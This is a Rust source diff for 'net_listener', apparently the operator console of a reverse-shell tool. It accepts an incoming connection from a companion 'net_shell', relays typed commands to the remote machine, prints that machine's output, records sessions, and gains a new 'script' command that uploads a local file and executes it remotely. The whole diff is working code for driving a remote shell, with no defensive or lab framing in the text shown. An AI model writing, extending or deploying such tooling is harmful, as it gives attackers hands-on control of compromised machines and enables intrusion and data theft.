@@ -1,42 +1,143 @@
 use std::env;
-use std::io::{self, BufRead, BufReader, Write};
-use std::net::TcpListener;
+use std::fs;
+use std::io::{self, BufRead, BufReader, IsTerminal, Write};
+use std::net::TcpStream;
+use std::path::Path;
+
+use log::info;
+
+use net_utils::addr;
+use net_utils::cli::{Cli, Opt, DEFAULT_LISTEN_ADDRESS};
+use net_utils::recording::Recorder;
+
+/// Uploads a local script to net_shell and runs it there:
+/// `script [-e] [-x] <local_file> [args...]`.
+fn upload_script(remote_writer: &mut TcpStream, command_line: &str) -> io::Result<()> {
+    let parts: Vec<&str> = command_line.split_whitespace().collect();
+    let flags: Vec<&str> = parts.iter().take_while(|p| p.starts_with('-')).copied().collect();
+    let Some(local_file) = parts.get(flags.len()) else {
+        println!("Usage: script [-e] [-x] <local_file> [args...]");
+        return Ok(());
+    };
+    let script = match fs::read(local_file) {
+        Ok(data) => data,
+        Err(e) => {
+            println!("script: {}: {}", local_file, e);
+            return Ok(());
+        }
+    };
+    let file_name_only = Path::new(local_file)
+        .file_name()
+        .unwrap_or_default()
+        .to_string_lossy()
+        .to_string();
+
+    let mut header = format!("SCRIPT_UPLOAD {}", script.len());
+    for flag in &flags {
+        header.push(' ');
+        header.push_str(flag);
+    }
+    header.push(' ');
+    header.push_str(&file_name_only);
+    for arg in &parts[flags.len() + 1..] {
+        header.push(' ');
+        header.push_str(arg);
+    }
+
+    writeln!(remote_writer, "{}", header)?;
+    remote_writer.write_all(&script)?;
+    remote_writer.flush()
+}
+
+/// Tells net_shell that the operator is at a terminal, so PTY commands get
+/// its type and size: `TERMINAL <term> <rows> <cols>`.
+fn advertise_terminal(remote_writer: &mut TcpStream) -> io::Result<()> {
+    if !io::stdin().is_terminal() {
+        return Ok(());
+    }
+    let term = env::var("TERM").unwrap_or_else(|_| "xterm".to_string());
+    let (rows, cols) = terminal_size().unwrap_or((24, 80));
+    writeln!(remote_writer, "TERMINAL {} {} {}", term, rows, cols)?;
+    remote_writer.flush()
+}
+
+#[cfg(unix)]
+fn terminal_size() -> Option<(u16, u16)> {
+    let mut ws = nix::pty::Winsize { ws_row: 0, ws_col: 0, ws_xpixel: 0, ws_ypixel: 0 };
+    // SAFETY: TIOCGWINSZ only writes into the winsize struct we pass
+    let rc = unsafe { nix::libc::ioctl(nix::libc::STDOUT_FILENO, nix::libc::TIOCGWINSZ, &mut ws) };
+    (rc == 0 && ws.ws_row > 0).then_some((ws.ws_row, ws.ws_col))
+}
+
+#[cfg(not(unix))]
+fn terminal_size() -> Option<(u16, u16)> {
+    None
+}
 
 fn main() -> io::Result<()> {
-    let address: String = env::var("LISTENER_ADDRESS").unwrap_or_else(|_| "0.0.0.0:8080".to_string());
-    let listener = TcpListener::bind(&address)?;
-    println!("net_listener: listening on {}", address);
-    println!("Wait for reverse shell connection...");
+    let matches = Cli::new("net_listener", "waits for a net_shell to connect and drives it from this terminal")
+        .opts(&[
+            Opt::value("address", "ADDR", "Address to listen on").short('a').env("LISTENER_ADDRESS").default(DEFAULT_LISTEN_ADDRESS),
+            Opt::value("port", "PORT", "Listen on this port").short('p'),
+        ])
+        .parse_env_or_exit();
+    matches.init_logging("(listener)");
+    let address = matches.address().unwrap_or_default();
+    let listener = addr::bind(&address)?;
+    info!("Listening on {}", address);
+    info!("Wait for reverse shell connection...");
 
-    let (mut stream, addr) = listener.accept()?;
-    println!("Reverse shell connected from {}", addr);
+    let (stream, addr) = addr::accept(&listener)?;
+    info!("Reverse shell connected from {}", addr);
+
+    // Recorded when RECORD_DIR is set
+    let (rows, cols) = terminal_size().unwrap_or((24, 80));
+    let recorder = Recorder::from_env("net_listener", &addr.to_string(), cols, rows);
 
     let mut remote_reader = BufReader::new(stream.try_clone()?);
+    let output_recorder = recorder.clone();
     std::thread::spawn(move || {
         let mut line = String::new();
         while let Ok(n) = remote_reader.read_line(&mut line) {
             if n == 0 {
-                println!("Remote shell disconnected.");
+                info!("Remote shell disconnected.");
                 break;
             }
             print!("{}", line);
             io::stdout().flush().ok();
+            if let Some(recorder) = &output_recorder {
+                recorder.output(line.as_bytes());
+            }
             line.clear();
         }
     });
 
     // Thread B: read from local stdin -> write to remote
     let mut remote_writer = stream;
+    advertise_terminal(&mut remote_writer)?;
+    // What the local terminal echoed is part of what was shown
+    let echoed = io::stdin().is_terminal();
     let stdin = io::stdin();
     for line in stdin.lock().lines() {
         let line = line.unwrap();
+        if let Some(recorder) = &recorder {
+            let typed = format!("{}\n", line);
+            recorder.input(typed.as_bytes());
+            if echoed {
+                recorder.output(typed.as_bytes());
+            }
+        }
         if line.trim().eq_ignore_ascii_case("quit") {
             break;
         }
+        if let Some(rest) = line.trim().strip_prefix("script ") {
+            upload_script(&mut remote_writer, rest)?;
+            continue;
+        }
         writeln!(remote_writer, "{}", line)?;
         remote_writer.flush()?;
     }
 
-    println!("Exiting net_listener.");
+    info!("Exiting net_listener.");
     Ok(())
 }